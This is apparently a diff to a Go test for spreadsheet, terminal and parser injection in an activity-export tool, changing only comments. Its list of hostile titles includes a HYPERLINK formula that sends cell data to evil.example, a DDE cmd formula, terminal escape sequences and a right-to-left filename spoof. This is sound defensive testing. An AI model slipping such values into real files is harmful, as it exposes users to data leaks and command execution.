@@ -16,7 +16,7 @@ import (
 	"unicode/utf8"
 )
 
-// evil are titles that mean harm to a spreadsheet, a terminal or a parser.
+// evil lists titles that attack a spreadsheet, a terminal or a parser.
 var evil = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"evil")`, `+evil+1`, `-evil`, `@evil(1)`, `=cmd|' /C evil'!A0`, "\t=evil()", "\n=evil()", "\r=evil()",
 	"evil\x1b]0;owned\a\x1b[2J", "evil\u009b2J\u0085", "evil\u202egnp.exe\u2066", "evil\xff\xfe\xc3(", "evil\x00nul", "_x003D_evil_x000D_",
@@ -37,7 +37,7 @@ func evilExport(t *testing.T, titles []string) string {
 		text := strings.ReplaceAll(run, "2025-07-09T", day)
 		switch i % 3 {
 		case 0: // the title stands in the index
-			quoted := `"` + strings.NewReplacer(`"`, `""`, "\x00", "").Replace(title) + `"` // with a NUL it would be no table
+			quoted := `"` + strings.NewReplacer(`"`, `""`, "\x00", "").Replace(title) + `"` // with a NUL, the index would not be read as a table
 			index += fmt.Sprintf("%d,\"May 1, 2025, 6:00:00 AM\",%s,Run,%s,%s\n", i, quoted, quoted, name)
 		case 1: // in the file
 			text = strings.Replace(text, "<trk>", "<trk><name><![CDATA["+title+"]]></name><desc><![CDATA["+title+"]]></desc>", 1)
@@ -51,7 +51,8 @@ func evilExport(t *testing.T, titles []string) string {
 	return folder
 }
 
-// Titles, notes, names of files and of devices are data wherever they appear.
+// Titles, notes and the names of files and devices are never executed or interpreted,
+// wherever they appear.
 func TestInjection(t *testing.T) {
 	folder, book := evilExport(t, evil), filepath.Join(t.TempDir(), "season.xlsx")
 	totals := fmt.Sprintf("= runs %d ", len(evil))
@@ -112,7 +113,7 @@ func checkCSV(t *testing.T, text string) {
 	}
 }
 
-// checkWorkbook looks through every part of a workbook.
+// checkWorkbook checks every part of a workbook with checkPart.
 func checkWorkbook(t *testing.T, book []byte) {
 	t.Helper()
 	words := 0
@@ -124,11 +125,11 @@ func checkWorkbook(t *testing.T, book []byte) {
 	}
 }
 
-// longestText of a cell, in UTF-16 units: Excel's own bound.
+// longestText is Excel's limit for the text of a cell in UTF-16 units.
 const longestText = 32_767
 
-// checkPart returns how many texts hold a title, and fails for formulas and links
-// that do, for links to anywhere but the web, and for text that Excel refuses.
+// checkPart returns how many texts of a part hold a title. It fails for a formula or a link
+// that holds one, for a link to anything but a web page, and for text that Excel refuses.
 func checkPart(t *testing.T, name string, data []byte) (words int) {
 	t.Helper()
 	if !utf8.Valid(data) {
